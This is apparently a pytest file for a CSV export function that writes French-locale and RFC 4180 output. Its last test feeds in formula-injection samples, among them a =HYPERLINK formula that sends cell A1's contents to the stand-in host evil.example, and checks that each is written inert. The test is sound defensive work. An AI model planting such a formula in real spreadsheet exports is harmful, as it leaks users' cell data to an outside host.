"""CSV for a French spreadsheet by default, RFC 4180 on request."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from services.ops.exports import to_csv

ROW = ("R-1", datetime(2026, 12, 1, 8, 5, tzinfo=UTC), True, 12.5, None, "Vandœuvre")


def test_the_french_form_opens_right_in_a_french_spreadsheet() -> None:
    text = to_csv(["request_id", "received_at", "booked", "km", "reason", "commune"], [ROW])
    assert text.startswith("\ufeff")  # accents read as UTF-8
    header, line = text.removeprefix("\ufeff").splitlines()
    assert header == "request_id;received_at;booked;km;reason;commune"
    assert line == "R-1;01/12/2026 09:05:00;oui;12,5;;Vandœuvre"  # Paris time, decimal comma


def test_the_rfc4180_form_is_for_programs() -> None:
    text = to_csv(["request_id", "received_at", "booked", "km", "reason", "commune"], [ROW], "csv-rfc4180")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row == {"request_id": "R-1", "received_at": "2026-12-01T08:05:00+00:00", "booked": "true", "km": "12.5",
                   "reason": "", "commune": "Vandœuvre"}  # fmt: skip


def test_a_separator_inside_a_value_is_quoted() -> None:
    text = to_csv(["a"], [("x;y",)])
    assert text.removeprefix("\ufeff").splitlines()[1] == '"x;y"'


def test_a_cell_a_spreadsheet_would_run_is_written_inert_in_both_forms() -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Dr")', "+33612345678", "@SUM(A1)", "-2+3", "\t=1", "\r=1"]
    harmless = [-1.55, "-1,5", "Dr Martin"]
    for form in ("csv-fr", "csv-rfc4180"):
        text = to_csv(["value"] * 9, [(*hostile, *harmless)], form)  # type: ignore[arg-type]
        [row] = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";" if form == "csv-fr" else ","))[
            1:
        ]
        assert all(cell.startswith("'") for cell in row[:6]), row
        assert row[6] in ("-1,55", "-1.55") and row[7] == "-1,5" and row[8] == "Dr Martin"  # numbers stay numbers
